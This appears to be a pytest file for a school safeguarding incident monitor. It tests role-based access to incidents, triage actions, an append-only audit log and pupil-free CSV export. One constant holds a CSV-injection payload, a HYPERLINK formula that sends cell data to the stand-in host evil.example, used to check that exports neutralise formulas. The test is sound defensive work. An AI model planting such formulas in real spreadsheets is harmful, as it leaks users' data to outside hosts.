"""The incident page and triage: who may see and do what, and the audit log that records it all."""
import csv
import io
from datetime import datetime, timezone

import pytest
from sqlalchemy import select, text
from sqlalchemy.exc import DatabaseError

from monitor.incidents.models import AuditEntry
from monitor.pipeline import Pipeline

from .. import zoom
from ..signing_in import csrf, signed_in
from ..staff_pages import PUPIL, rows


def test_the_dsl_sees_the_whole_story_and_closes_with_a_rationale(services, web, incidents_in_a_lesson):
    web = signed_in(services, web, "dsl")
    incident_id = incidents_in_a_lesson["external_participant"]
    page = web.get(f"/incidents/{incident_id}")
    assert page.status_code == 200
    for fact in (b"Someone from outside the school joined a lesson with pupils", b"Only school accounts",
                 b"Year 9 Maths", PUPIL.encode(), b"Pupil One", b"waiting to be sent"):
        assert fact in page.data
    token = csrf(page.data)
    web.post(f"/incidents/{incident_id}/acknowledge", data={"csrf_token": token})
    refused = web.post(f"/incidents/{incident_id}/close", data={"csrf_token": token, "outcome": "no_action",
                                                                 "rationale": "   "}, follow_redirects=True)
    assert b"Nothing was changed" in refused.data
    assert services.incidents.get(incident_id)["status"] == "acknowledged"
    web.post(f"/incidents/{incident_id}/close", data={"csrf_token": token, "outcome": "no_action",
                                                       "rationale": "A parent helping with the login, checked."})
    closed = services.incidents.get(incident_id)
    assert (closed["status"], closed["outcome"], closed["closed_by"]) == ("closed", "no_action", "dsl@gatehouse.sch.uk")
    assert web.post(f"/incidents/{incident_id}/reopen", data={"csrf_token": token, "reason": ""}).status_code == 303
    assert services.incidents.get(incident_id)["status"] == "closed"
    web.post(f"/incidents/{incident_id}/reopen", data={"csrf_token": token, "reason": "New information"})
    assert services.incidents.get(incident_id)["status"] == "acknowledged"
    history = [(h["who"], h["action"]) for h in services.triage.history(incident_id)]
    assert history == [("dsl@gatehouse.sch.uk", a) for a in ("view", "acknowledge", "view", "close", "reopen")]


def test_a_viewer_reads_without_pupils_named_and_changes_nothing(services, web, incidents_in_a_lesson):
    web = signed_in(services, web, "viewer")
    incident_id = incidents_in_a_lesson["external_participant"]
    page = web.get(f"/incidents/{incident_id}")
    assert page.status_code == 200 and b"2 pupil(s)" in page.data
    assert PUPIL.encode() not in page.data and b"Pupil One" not in page.data and b"Acknowledge" not in page.data
    assert web.post(f"/incidents/{incident_id}/acknowledge", data={"csrf_token": csrf(page.data)}).status_code == 403
    assert services.incidents.get(incident_id)["status"] == "new"


def test_the_headteacher_sees_the_staff_conduct_incidents_only(services, web, incidents_in_a_lesson):
    web = signed_in(services, web, "headteacher")
    listing = rows(web.get("/incidents"))
    assert "not hosted by a teacher" in listing and "outside the school" not in listing
    assert web.get(f"/incidents/{incidents_in_a_lesson['non_teacher_host']}").status_code == 200
    assert web.get(f"/incidents/{incidents_in_a_lesson['external_participant']}").status_code == 404


def test_a_deputy_triages_too(services, web, incidents_in_a_lesson):
    web = signed_in(services, web, "deputy")
    incident_id = incidents_in_a_lesson["non_teacher_host"]
    token = csrf(web.get(f"/incidents/{incident_id}").data)
    web.post(f"/incidents/{incident_id}/close", data={"csrf_token": token, "outcome": "referred",
                                                       "rationale": "Referred to the LADO."})
    assert services.incidents.get(incident_id)["outcome"] == "referred"


def test_the_audit_log_cannot_be_edited_or_deleted(services, incidents_in_a_lesson):
    services.triage.record((None, "someone"), "view", 1, datetime.now(timezone.utc))
    for statement in ("UPDATE audit_log SET action = 'nothing'", "DELETE FROM audit_log"):
        with pytest.raises(DatabaseError, match="append-only"):
            with services.database.begin() as conn:
                conn.execute(text(statement))
    assert [h["action"] for h in services.triage.history(1)] == ["view"]


def test_the_export_is_csv_without_pupils_and_is_audited(services, web, incidents_in_a_lesson):
    web = signed_in(services, web, "dsl")
    response = web.get("/incidents.csv?rule=external_participant")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.data.decode())))
    assert [(r["rule"], r["status"], r["topic"]) for r in rows] == [("external_participant", "new", "Year 9 Maths")]
    assert PUPIL.encode() not in response.data and b"Pupil One" not in response.data
    with services.database.connect() as conn:
        exports = conn.execute(select(AuditEntry.__table__).where(AuditEntry.__table__.c.action == "export")).all()
    assert [(e.account_email, e.detail["incidents"], e.detail["filters"]) for e in exports] == [
        ("dsl@gatehouse.sch.uk", 1, {"rule": "external_participant"})]


FORMULAS = ('=HYPERLINK("https://evil.example/?leak="&A1,"Open")', "+1", "-2", "@SUM(A1:A9)")


def test_a_topic_that_would_be_a_formula_is_exported_as_text(services, web, notifier):
    """OWASP's CSV injection: a spreadsheet would run a cell that starts with = + - or @ (tab and CR too, but the
    event model trims them off a topic: tests/staff/test_spreadsheet.py)."""
    pipeline = Pipeline.on_redis(services.config, services.redis, services.clock, services.incidents, notifier)
    for number, topic in enumerate(FORMULAS):
        uuid = f"formula-{number}=="
        for event in (zoom.joined(zoom.T0, "p1", PUPIL, uuid=uuid),
                      zoom.joined(zoom.T0, "p2", "pupil.two@gatehouse.sch.uk", uuid=uuid),
                      zoom.joined(zoom.T0 + 1, "x", "", uuid=uuid)):
            event["payload"]["object"]["topic"] = topic
            pipeline.process(event)
    response = signed_in(services, web, "dsl").get("/incidents.csv?rule=external_participant")
    rows = list(csv.DictReader(io.StringIO(response.data.decode(), newline="")))
    assert sorted(r["topic"] for r in rows) == sorted("'" + topic for topic in FORMULAS)


def test_only_those_who_triage_may_export(services, web, incidents_in_a_lesson):
    assert signed_in(services, web, "viewer").get("/incidents.csv").status_code == 403
